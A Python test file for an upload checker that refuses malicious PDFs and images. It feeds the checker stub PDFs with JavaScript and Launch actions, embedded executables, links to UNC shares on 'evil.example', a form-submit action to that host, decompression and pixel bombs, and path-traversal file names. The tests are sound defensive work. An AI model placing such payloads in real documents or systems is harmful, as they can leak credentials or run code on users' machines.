"""Uploaded files that mean harm: refused, or bounded in time and memory."""

import io
import zlib

import pytest
from PIL import Image
from pypdfium2 import PdfPage

from casework.documents.connectors.clamd import NoScanner
from casework.documents.decoding.page_images import MAX_PIXELS, draw_pages
from casework.documents.decoding.pdf_files import examine_pdf
from casework.documents.decoding.refusals import Refused
from casework.documents.errors import FileRejected
from casework.documents.file_check import check_file, safe_name
from tests.support.effort import calls
from tests.support.files import pdf


def verdict(name, content):
    try:
        check_file(name, content, NoScanner())
    except FileRejected as refusal:
        return refusal.details["reason"]
    return "TAKEN"


def packed(objects):
    content = zlib.compress(objects)
    return b"8 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(content) + content + b"\nendstream "


def test_an_ordinary_file_is_taken():
    assert check_file("surat.PDF", pdf(), NoScanner()).pages == 1


@pytest.mark.parametrize(
    "catalog",
    [
        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        b"/OpenAction<</S/Launch/F(cmd.exe)>>",
        b"/AcroForm<</XFA 4 0 R>>",
        b"/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>",
        b"/OpenAction<</S/GoTo" + b"/Next<</S/GoTo" * 40 + b"/Next<</S/JavaScript/JS(x)>>" + b">>" * 41,
        b"/OpenAction<</S/#4aavaScript/J#53(x)>>",
    ],
)
def test_a_pdf_that_acts_is_refused(catalog):
    assert verdict("a.pdf", pdf([b"<<>>"], catalog=catalog)) == "ACTIVE"


def test_what_acts_is_found_also_where_nothing_leads_to_it():
    assert verdict("a.pdf", pdf([b"<</Type/Action/S/JavaScript/JS(x)>>"])) == "ACTIVE"


@pytest.mark.parametrize(
    ("catalog", "objects", "reason"),
    [
        (b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>", [b"<<>>"], "EMBEDDED"),
        # a file without the type that it should have, at an annotation that shows it
        (b"/X<</Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 4 0 R>>>>>>", [b"<</Length 2>>stream\nMZ\nendstream"], "EMBEDDED"),
        (b"/X<</UF(a.exe)/E#46<</F 4 0 R>>>>", [b"<<>>"], "EMBEDDED"),
        (b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>", [], "FILE_LINK"),
        (b"/OpenAction<</S/Thread/F 4 0 R>>", [b"(\\\\\\\\evil.example\\\\x)"], "FILE_LINK"),
        (b"/X<</S/URI/URI(file://evil.example/share)>>", [], "FILE_LINK"),
        (b"/X<</S/URI/URI 4 0 R>>", [b"(\\\\\\\\evil.example\\\\share)"], "FILE_LINK"),
        (b"/X<</S/URI/URI(//evil.example/share)>>", [], "FILE_LINK"),
        (b"/X<</S/URI/URI(javascript:alert\\(1\\))>>", [], "FILE_LINK"),
        (b"/URI<</Base(file:///c:/)>>", [], "FILE_LINK"),
        (b"", [b"<</Length 0/F(\\\\\\\\evil.example\\\\x)/FFilter/FlateDecode>>stream\n\nendstream"], "FILE_LINK"),
    ],
)
def test_a_pdf_that_holds_or_leads_to_a_file_is_refused_with_the_true_reason(catalog, objects, reason):
    assert verdict("a.pdf", pdf(objects, catalog=catalog)) == reason


@pytest.mark.parametrize(
    "address", [b"https://tangerangkab.go.id", b"http://a.example/b?c", b"mailto:a@b.example", b"www.a.example/b", b"#hal2"]
)
def test_a_link_to_the_web_is_no_harm(address):
    assert verdict("a.pdf", pdf(catalog=b"/X<</S/URI/URI(" + address + b")>>")) == "TAKEN"


def test_the_kind_of_an_action_may_be_an_object_of_its_own():
    assert verdict("a.pdf", pdf([b" /JavaScript "], catalog=b"/OpenAction<</S 4 0 R>>")) == "ACTIVE"


@pytest.mark.parametrize("hidden", [b"9 0 obj<</S/JavaScript/JS(x)>>", packed(b"9 0 <</S/JavaScript/JS(x)>>")])
def test_what_acts_is_found_also_where_no_table_names_it(hidden):
    """Another program repairs the table of a file, and finds the object."""
    assert verdict("a.pdf", pdf([b"<<>>endobj\n" + hidden])) == "ACTIVE"


def test_countless_objects_are_refused_before_they_are_read():
    content = pdf([b"1"] * 90_000)
    assert verdict("a.pdf", content) == "TOO_HEAVY"

    def walk():
        with pytest.raises(Refused):
            examine_pdf(content)

    assert calls(walk) < 8_000_000


def test_a_pdf_that_inflates_beyond_the_budget_is_refused():
    page = b"<</Length 1/Filter/FlateDecode>>stream\n" + zlib.compress(b"0 0 m " * 26_000_000, 1) + b"\nendstream"
    assert verdict("a.pdf", pdf([page])) == "TOO_HEAVY"


@pytest.mark.parametrize("content", [b"[" * 5_000 + b"]" * 5_000, b"<</A" * 3_000 + b" 1" + b">>" * 3_000])
def test_endless_nesting_does_not_break_the_check(content):
    assert verdict("a.pdf", pdf([content])) in ("TAKEN", "BROKEN")


def test_a_page_of_a_kilometre_is_drawn_small(monkeypatch):
    drawn, render = [], PdfPage.render
    monkeypatch.setattr(PdfPage, "render", lambda page, **options: drawn.append(render(page, **options)) or drawn[-1])
    ((_number, image),) = draw_pages(pdf(box="0 0 1 10000000"), "application/pdf")
    with Image.open(io.BytesIO(image)) as kept:
        assert kept.width * kept.height <= MAX_PIXELS * 1.2
    assert sum(bitmap.width * bitmap.height for bitmap in drawn) <= MAX_PIXELS * 1.2, "pixels in memory"


def test_an_ordinary_page_is_drawn_wide():
    ((_number, image),) = draw_pages(pdf(), "application/pdf")
    with Image.open(io.BytesIO(image)) as drawn:
        assert 1_190 <= drawn.width <= 1_201


def test_a_picture_that_unpacks_to_gigabytes_is_refused():
    out = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")
    assert len(out.getvalue()) < 500_000
    assert verdict("a.png", out.getvalue()) == "TOO_MANY_PIXELS"


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\temp\\surat.pdf", "surat.pdf"),
        ("a\x00b\r\n.pdf", "ab.pdf"),
        ("", "berkas"),
        ("...", "berkas"),
        ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
    ],
)
def test_names_are_made_harmless(name, safe):
    assert safe_name(name) == safe
